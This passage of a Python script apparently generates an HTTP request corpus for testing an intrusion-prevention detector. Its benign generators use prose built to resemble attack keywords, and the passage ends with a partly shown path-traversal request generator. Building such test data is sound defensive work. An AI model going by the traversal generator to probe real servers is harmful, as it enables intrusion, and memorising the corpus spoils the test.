            tr.append(req("GET", "/assets/" + p.replace("\\", "/").lstrip("/")))
    out("traversal", "manual", tr)


def json_str(s):
    import json
    return json.dumps(s)


# ---------------------------------------------------------------------------------------------
# benign

CHROME = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
          "Chrome/131.0.0.0 Safari/537.36")
SAFARI = ("Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) "
          "Version/18.1 Safari/605.1.15")
BROWSERS = [
    FIREFOX, CHROME, SAFARI,
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.81 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (Linux; Android 13; SM-S911B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/26.0 Chrome/122.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (iPad; CPU OS 17_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/131.0.6778.73 Mobile/15E148 Safari/604.1",
]
API_CLIENTS = ["okhttp/4.12.0", "axios/1.7.7", "python-requests/2.32.3", "Go-http-client/2.0", "Dart/3.5 (dart:io)",
               "MyShopApp/5.2.1 (iOS 18.1; iPhone15,3)", "Apache-HttpClient/5.3 (Java/21.0.4)", "node-fetch/1.0"]
FIRST = ["Seán", "Zoë", "José", "Chloé", "Björn", "Nguyễn", "Aoife", "Dmitri", "Amélie", "Ola", "Kwame", "Priya", "Mateo",
         "Hannah", "Tomás", "Søren", "Fatima", "Yuki", "Li", "Olu", "Mary-Kate", "D'Andre", "Jean-Luc", "Renée", "Ngozi"]
LAST = ["O'Connor", "D'Angelo", "O'Brien", "Müller", "García", "Van der Berg", "Smith-Jones", "Ó Súilleabháin", "N'Diaye",
        "Dell'Orto", "L'Estrange", "McAllister", "Øster", "Kowalczyk", "Nakamura", "Al-Farsi", "de la Cruz", "O'Neill", "Zhang",
        "Fitzgerald", "Łukasiewicz", "D'Souza", "Ng", "Andrée", "Ortega y Gasset"]
CITIES = ["Dún Laoghaire", "Zürich", "São Paulo", "Kraków", "Göteborg", "L'Aquila", "Saint-Étienne", "Reykjavík", "Aix-en-Provence",
          "Jyväskylä", "Málaga", "Москва", "東京", "Київ", "Île-de-France", "Hjørring", "St. John's", "Coeur d'Alene"]
# prose a customer, a support agent or a developer types; the words overlap with attack syntax
PROSE = [
    "Can I select a different size after ordering?", "Please update my delivery address, I moved last week.",
    "Where do I drop off returns? The union station shop or the one on 5th?",
    "I'd like to delete my account and all data you hold on me.", "Is the table lamp sold as a set or one by one?",
    "Order #4471 arrived damaged -- the box was wet and the glass was broken.",
    "Great service!!! Will order again :)", "Script for the kids' play: act 1, scene 2 (draft).",
    "We ran `make install` and then the tool worked fine.", "Use 'and' or 'or' between keywords to narrow the search.",
    "Drop table tennis paddles in the returns bin, please.", "Alert: the store closes at 6pm on holidays.",
    "Insert the SIM card before turning the phone on.", "Exec summary attached; see sheet 2 for the numbers.",
    "The price went from $19.99 to $24.99 -- is that right?", "50% off & free shipping on orders > 40 EUR",
    "My son's name is O'Reilly; your form rejected the apostrophe.", "Windows 11 / macOS 14 / Ubuntu 24.04 supported?",
    "size=XL; colour=navy; qty=2", "Email me at ann.o'hara@example.org when it's back in stock.",
    "The recipe says 1/2 cup sugar + 2 eggs, mix < 5 min.", "Ping me on Monday, I'm out until then.",
    "Where's the cat food? Can't find it on the site.", "Read the FAQ (section 3.2) -- it says returns take 14 days.",
    "Is there a wildcard * search? e.g. shirt* for shirts and shirtdress", "Values between 10 and 20 are fine.",
    "Please cc: support@example.com and my manager.", "Select all that apply: red, green, blue.",
    "C:\\Users\\Ann\\Documents\\invoice.pdf won't open", "The path is /home/ann/photos/2024/summer -- upload failed",
    "Rock & roll t-shirt, size M, 100% cotton", "Is 'where' a reserved word in your product codes?",
    "The <b>bold</b> text in my review showed as tags.", "I love the new design <3", "1 + 1 = 2, but the cart says 3 items?",
    "Why does the update take so long (>10 min)?", "Sleep mask + ear plugs bundle, is it available?",
    "I've been waiting for order 8812 since Tuesday; the tracking says 'in transit'.",
    "Shipping to Côte d'Ivoire possible?", "Это отличный магазин, спасибо!", "配送にどのくらい時間がかかりますか？",
    "Danke für die schnelle Lieferung 👍", "¿Tienen esta camisa en talla grande?", "Très bien, merci beaucoup !",
    "Print the receipt from the 'Orders' page, then click 'Details'.", "Can I pay with PayPal or only by card?",
    "The hash of the file is 9f86d081884c7d65..., is that expected?", "echo chamber headphones review",
    "cat toys and dog toys", "curl bar for the bathroom", "wget? no idea what that is, I just want my refund",
]
SEARCH = ["red shoes", "iphone 15 case", "o'neill wetsuit", "men's jacket", "women's boots size 38", "kids' toys under 20",
          "usb-c cable 2m", "table lamp", "select comfort mattress", "union jack flag", "drop earrings", "script font poster",
          "alert light bike", "exec chair", "sleep mask", "and/or", "rock & roll", "100% cotton", "c++ book", "c# in depth",
          "café au lait mug", "jalapeño sauce", "naïve art print", "crème brûlée torch", "gift for dad", "where's wally",
          "1/2 inch drill bit", "a+b tester", "tom & jerry dvd", "\"exact phrase\" search", "lego 42115", "<3 stickers",
          "what is the difference between cotton and linen?", "how to update firmware", "insert coin bank", "the who tshirt"]
PRODUCTS = ["shoes", "jackets", "lamps", "books", "toys", "kitchen", "garden", "phones", "cables", "bags"]
COOKIE_NAMES = ["session", "sid", "cart", "_ga", "_gid", "consent", "lang", "theme", "csrftoken", "remember_me"]


def benign_gen(n, seed=20261123):
    rnd = random.Random(seed)
    out = []

    def token(k=32):
        return "".join(rnd.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789") for _ in range(k))

    def cookies():
        cs = rnd.sample(COOKIE_NAMES, rnd.randint(0, 5))
        val = {"session": token(40), "sid": token(26), "cart": "%d-%d" % (rnd.randint(1, 99), rnd.randint(1, 9)),
               "_ga": "GA1.2.%d.%d" % (rnd.randint(10**8, 10**9), rnd.randint(1.6e9, 1.8e9)),
               "_gid": "GA1.2.%d.%d" % (rnd.randint(10**8, 10**9), rnd.randint(1.6e9, 1.8e9)),
               "consent": rnd.choice(["all", "necessary", "{%22ads%22:false%2C%22stats%22:true}"]),
               "lang": rnd.choice(["en-GB", "fr", "de-CH", "pt-BR"]), "theme": rnd.choice(["dark", "light"]),
               "csrftoken": token(64), "remember_me": "1"}
        return "; ".join("%s=%s" % (c, val[c]) for c in cs)

    def name():
        return "%s %s" % (rnd.choice(FIRST), rnd.choice(LAST))

    def q(s):
        return urllib.parse.quote_plus(s)

    def headers(method, target, api=False, ref=True):
        h = ["%s %s HTTP/1.1" % (method, target), "Host: " + rnd.choice([HOST, "www." + HOST, "api." + HOST])]
        if api:
            h += ["User-Agent: " + rnd.choice(API_CLIENTS), "Accept: application/json"]
            if rnd.random() < 0.7:
                h.append("Authorization: Bearer " + token(20) + "." + token(60) + "." + token(43))
        else:
            h += ["User-Agent: " + rnd.choice(BROWSERS),
                  "Accept: " + rnd.choice(["text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", "*/*",
                                           "image/avif,image/webp,*/*"]),
                  "Accept-Language: " + rnd.choice(["en-US,en;q=0.9", "fr-FR,fr;q=0.8,en;q=0.5", "de-DE,de;q=0.9", "ja,en;q=0.7"]),
                  "Accept-Encoding: gzip, deflate, br"]
            if ref and rnd.random() < 0.6:
                h.append("Referer: https://%s/%s" % (HOST, rnd.choice(["", "search?q=" + q(rnd.choice(SEARCH)),
                                                                        "products/" + rnd.choice(PRODUCTS), "cart"])))
            c = cookies()
            if c:
                h.append("Cookie: " + c)
            if rnd.random() < 0.3:
                h += ["Sec-Fetch-Dest: document", "Sec-Fetch-Mode: navigate", "Sec-Fetch-Site: same-origin",
                      "Upgrade-Insecure-Requests: 1"]
        return h

    def msg(h, body=b"", ctype=None):
        if body or ctype:
            h = h + ["Content-Type: " + ctype, "Content-Length: %d" % len(body)]
        return ("\r\n".join(h) + "\r\n\r\n").encode("utf-8") + body

    def page_get():
        p = rnd.choice(["/", "/products/%s" % rnd.choice(PRODUCTS), "/products/%s/%d" % (rnd.choice(PRODUCTS), rnd.randint(1, 99999)),
                        "/blog/%d/%02d/%s" % (rnd.randint(2015, 2026), rnd.randint(1, 12), rnd.choice(["spring-sale", "how-we-pack", "new-store-opening", "faq-update"])),
                        "/static/js/app.%s.js" % token(8).lower(), "/static/css/main.%s.css" % token(8).lower(),
                        "/images/%s/%d.webp" % (rnd.choice(PRODUCTS), rnd.randint(1, 5000)), "/help/returns", "/account/orders",
                        "/favicon.ico", "/robots.txt", "/sitemap.xml", "/fonts/inter-var.woff2", "/cart", "/checkout/shipping",
                        "/de/produkte/lampen", "/fr/%s" % urllib.parse.quote("catégories/été"), "/ja/%s" % urllib.parse.quote("商品/靴"),
                        "/docs/v2/getting-started.html", "/wiki/Main_Page", "/wiki/" + urllib.parse.quote("Zürich_(city)")])
        if rnd.random() < 0.3:
            p += "?utm_source=%s&utm_medium=%s&utm_campaign=%s" % (rnd.choice(["newsletter", "google", "facebook"]),
                                                                 rnd.choice(["email", "cpc", "social"]), q(rnd.choice(["black friday", "summer-2025", "o'neill promo"])))
        return msg(headers("GET", p))

    def search():
        s = rnd.choice(SEARCH + PROSE)
        t = "/search?q=%s" % q(s)
        if rnd.random() < 0.5:
            t += "&page=%d&sort=%s" % (rnd.randint(1, 20), rnd.choice(["price_asc", "price_desc", "relevance", "newest"]))
        if rnd.random() < 0.3:
            t += "&filter=%s" % q("brand:%s|colour:%s" % (rnd.choice(["O'Neill", "Levi's", "H&M", "Dr. Martens"]), rnd.choice(["red", "blue"])))
        return msg(headers("GET", t))

    def long_query():
        ps = ["f%d=%s" % (i, q(rnd.choice(SEARCH))) for i in range(rnd.randint(10, 40))]
        ps += ["ids[]=%d" % rnd.randint(1, 10**6) for _ in range(rnd.randint(5, 60))]
        return msg(headers("GET", "/products/compare?" + "&".join(ps)))

    def form_post():
        kind = rnd.randrange(4)
        if kind == 0:
            fields = [("name", name()), ("email", "%s@example.org" % rnd.choice(["ann.o'hara", "sean.oconnor", "zoe", "j.garcia"])),
                      ("city", rnd.choice(CITIES)), ("message", rnd.choice(PROSE))]
            t = "/contact"
        elif kind == 1:
            fields = [("first_name", rnd.choice(FIRST)), ("last_name", rnd.choice(LAST)),
                      ("street", "%d %s" % (rnd.randint(1, 300), rnd.choice(["St. Mary's Road", "Rue de l'Église", "Hauptstraße", "O'Connell Street"]))),
                      ("city", rnd.choice(CITIES)), ("zip", "%05d" % rnd.randint(0, 99999)), ("country", rnd.choice(["IE", "FR", "DE", "BR", "JP"]))]
            t = "/checkout/address"
        elif kind == 2:
            fields = [("username", rnd.choice(["ann", "sean.o", "zoe_b", "dandre"])), ("password", token(rnd.randint(10, 20)) + rnd.choice("!#%&*?'\"")),
                      ("remember", "on"), ("csrf", token(40))]
            t = "/login"
        else:
            fields = [("rating", str(rnd.randint(1, 5))), ("title", rnd.choice(SEARCH)), ("review", " ".join(rnd.sample(PROSE, 3))),
                      ("author", name())]
            t = "/products/%d/reviews" % rnd.randint(1, 9999)
        body = urllib.parse.urlencode(fields).encode()
        return msg(headers("POST", t), body, "application/x-www-form-urlencoded")

    def json_api():
        import json
        kind = rnd.randrange(5)
        if kind == 0:
            obj = {"items": [{"sku": "SKU-%05d" % rnd.randint(0, 99999), "qty": rnd.randint(1, 5)} for _ in range(rnd.randint(1, 6))],
                   "coupon": rnd.choice([None, "WELCOME10", "BLACKFRIDAY"]), "note": rnd.choice(PROSE)}
            m, t = "POST", "/api/v2/orders"
        elif kind == 1:
            obj = {"name": name(), "address": {"city": rnd.choice(CITIES), "line1": "12 O'Connell St."}, "newsletter": rnd.random() < 0.5}
            m, t = "PUT", "/api/v2/users/%d" % rnd.randint(1, 10**6)
        elif kind == 2:
            obj = {"query": rnd.choice(SEARCH), "filters": {"price": {"gte": 10, "lte": 200}, "brand": ["O'Neill", "Levi's"]},
                   "sort": [{"field": "price", "order": "asc"}], "page": {"size": 24, "from": rnd.randint(0, 500)}}
            m, t = "POST", "/api/v2/search"
        elif kind == 3:
            obj = {"event": rnd.choice(["page_view", "add_to_cart", "checkout"]), "ts": rnd.randint(1.7e12, 1.8e12),
                   "url": "https://%s/products/%s" % (HOST, rnd.choice(PRODUCTS)), "ua": rnd.choice(BROWSERS),
                   "screen": "1920x1080", "props": {"label": rnd.choice(PROSE)}}
            m, t = "POST", "/api/collect"
        else:
            obj = {"operationName": "Product", "variables": {"id": str(rnd.randint(1, 99999))},
                   "query": "query Product($id: ID!) { product(id: $id) { id name price { amount currency } reviews(first: 5) { edges { node { rating text } } } } }"}
            m, t = "POST", "/graphql"
        body = json.dumps(obj, ensure_ascii=rnd.random() < 0.5).encode()
        return msg(headers(m, t, api=True), body, "application/json")

    def api_get():
        t = rnd.choice(["/api/v2/products?category=%s&limit=%d&offset=%d" % (rnd.choice(PRODUCTS), rnd.choice([10, 24, 50]), rnd.randint(0, 900)),
                        "/api/v2/orders/%d" % rnd.randint(1, 10**7), "/api/v2/users/me", "/api/v2/stores?near=%s" % q(rnd.choice(CITIES)),
                        "/api/v2/products/%d/reviews?sort=-created_at&fields=rating,text,author" % rnd.randint(1, 99999),
                        "/v1/health", "/api/v2/cart/items?include=product,price", "/api/v2/search/suggest?q=%s" % q(rnd.choice(SEARCH))])
        return msg(headers("GET", t, api=True))

    def api_delete():
        return msg(headers("DELETE", "/api/v2/cart/items/%d" % rnd.randint(1, 10**5), api=True))

    def upload():
        b = "----WebKitFormBoundary" + token(16)
        fn, ct, data = rnd.choice([("holiday photo.jpg", "image/jpeg", bytes(rnd.randrange(256) for _ in range(rnd.randint(200, 3000)))),
                                   ("invoice 2024-03.pdf", "application/pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"),
                                   ("notes.txt", "text/plain", (" ".join(rnd.sample(PROSE, 4))).encode()),
                                   ("Résumé Zoë.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", b"PK\x03\x04" + bytes(rnd.randrange(256) for _ in range(500))),
                                   ("data.csv", "text/csv", ("name,city\n%s,%s\n%s,%s\n" % (name(), rnd.choice(CITIES), name(), rnd.choice(CITIES))).encode())])
        parts = [("--%s\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\n%s\r\n" % (b, rnd.choice(PROSE))).encode(),
                 ("--%s\r\nContent-Disposition: form-data; name=\"file\"; filename=\"%s\"\r\nContent-Type: %s\r\n\r\n" % (b, fn, ct)).encode() + data + b"\r\n",
                 ("--%s--\r\n" % b).encode()]
        body = b"".join(parts)
        return msg(headers("POST", rnd.choice(["/account/avatar", "/support/attachments", "/api/v2/uploads"])), body,
                   "multipart/form-data; boundary=" + b)

    def comment_html():
        # rich-text editors post a little HTML
        txt = rnd.choice(["<p>Loved it! <b>Five stars</b></p>", "<p>Size runs small, order <i>one up</i>.</p>",
                          "<ul><li>fast delivery</li><li>good price</li></ul>", "<p>See <a href=\"https://www.example.org/guide\">this guide</a></p>",
                          "<p>Q: does it fit?<br>A: yes</p>", "<blockquote>quoted text</blockquote><p>agree</p>"])
        body = urllib.parse.urlencode([("author", name()), ("body", txt)]).encode()
        return msg(headers("POST", "/community/posts/%d/replies" % rnd.randint(1, 5000)), body, "application/x-www-form-urlencoded")

    def redirect_param():
        t = rnd.choice(["/login?next=%s" % q("/account/orders?page=2"), "/logout?return_to=%s" % q("https://%s/" % HOST),
                        "/oauth/callback?code=%s&state=%s" % (token(30), token(16)), "/sso?redirect_uri=%s" % q("https://app.%s/auth" % HOST),
                        "/share?url=%s&title=%s" % (q("https://%s/products/lamps/12" % HOST), q("Look at this lamp!")),
                        "/download?file=%s" % q(rnd.choice(["manual-v2.pdf", "docs/size-guide.pdf", "2024/catalogue.pdf"]))])
        return msg(headers("GET", t))

    gens = [(page_get, 22), (search, 18), (form_post, 12), (json_api, 12), (api_get, 10), (long_query, 3), (upload, 5),
            (comment_html, 4), (redirect_param, 5), (api_delete, 2)]
    tot = sum(w for _, w in gens)
    for _ in range(n):
        r = rnd.uniform(0, tot)
        for g, w in gens:
            r -= w
            if r <= 0:
                out.append(g())
                break
        else:
            out.append(gens[0][0]())
    return out


def static_site(seed=7):
    """A small static site (pages link each other, query strings, non-ASCII names) for wget/curl."""
    rnd = random.Random(seed)
    pages = {}
    names = ["index.html"] + ["%s.html" % urllib.parse.quote(n) for n in
                              ["about", "contact", "faq", "returns", "blog-été", "größen", "o'neill-collection", "shipping", "careers", "press"]]
    for i in range(60):
        names.append("products/%s/%d.html" % (rnd.choice(PRODUCTS), i))
    for n in names:
        links = rnd.sample(names, 8)
        body = "<html><head><title>%s</title><link rel=\"stylesheet\" href=\"/static/site.css\"></head><body>" % n
        body += "".join('<a href="/%s">%s</a> ' % (l, l) for l in links)
        body += '<a href="/search?q=%s">s</a> ' % urllib.parse.quote_plus(rnd.choice(SEARCH))
        body += '<a href="/list?page=%d&amp;sort=price">p</a> ' % rnd.randint(1, 9)
        body += "<p>%s</p></body></html>" % " ".join(rnd.sample(PROSE, 3))
        pages["/" + n] = body.encode()
    pages["/static/site.css"] = b"body{font-family:sans-serif}"
    pages["/search"] = pages["/list"] = pages["/index.html"]
    return pages


def benign_live(out):
    pages = static_site()
    cap = Capture(static=pages)
    base = "http://127.0.0.1:%d" % cap.port
    tmp = tempfile.mkdtemp(prefix="ips_fresh_w_")
    try:
        if have("wget"):
            rs = run_tool(cap, ["wget", "-q", "-r", "-l", "4", "-p", "-e", "robots=off", "-P", tmp, base + "/"], 60,
                          "wget --recursive", drop_baseline=False)
            out("wget", [normalise(r, cap.port) for r in rs])
        if have("curl"):
            cap.take()
            rnd = random.Random(99)
            for p in sorted(pages)[:40]:
                argv = ["curl", "-s", "-o", os.devnull, "-A", rnd.choice(BROWSERS), "--compressed", base + p]
                if rnd.random() < 0.3:
                    argv += ["-d", urllib.parse.urlencode([("q", rnd.choice(PROSE)), ("name", "%s %s" % (rnd.choice(FIRST), rnd.choice(LAST)))])]
                if rnd.random() < 0.3:
                    argv += ["-b", "session=%032x; lang=fr" % rnd.getrandbits(128)]
                subprocess.run(argv, timeout=10)
            time.sleep(0.2)
            out("curl", [normalise(r, cap.port) for r in cap.take()])
    finally:
        cap.close()
        shutil.rmtree(tmp, ignore_errors=True)


# ---------------------------------------------------------------------------------------------

def main():
    a = sys.argv[1:]
    live_on, budget = True, 45
    while a and a[0].startswith("--"):
        if a[0] == "--no-live":
            live_on = False
            a = a[1:]
        elif a[0] == "--budget":
            budget = int(a[1])
            a = a[2:]
        else:
            sys.exit(__doc__)
    if len(a) != 1:
        sys.exit(__doc__)
    outdir = a[0]
    counts = {}

    def write(d, src, reqs):
        os.makedirs(d, exist_ok=True)
        k = counts.get((d, src), 0)
        for r in reqs:
            with open(os.path.join(d, "%s-%05d.http" % (src, k)), "wb") as f:
                f.write(r)
            k += 1
        counts[(d, src)] = k

    attack = lambda cat, src, reqs: write(os.path.join(outdir, "attack", "fresh", cat), src, reqs)  # noqa: E731
    benign = lambda src, reqs: write(os.path.join(outdir, "benign", "fresh"), src, reqs)  # noqa: E731
    manual(attack)
    benign("gen", benign_gen(6000))
    if live_on:
        live(attack, budget)
        benign_live(benign)
    with open(os.path.join(outdir, "SOURCES.txt"), "w") as f:
        for (d, src), k in sorted(counts.items()):
            f.write("%-40s %-40s %6d\n" % (os.path.relpath(d, outdir), src, k))
    sys.stderr.write(open(os.path.join(outdir, "SOURCES.txt")).read())


if __name__ == "__main__":
    main()
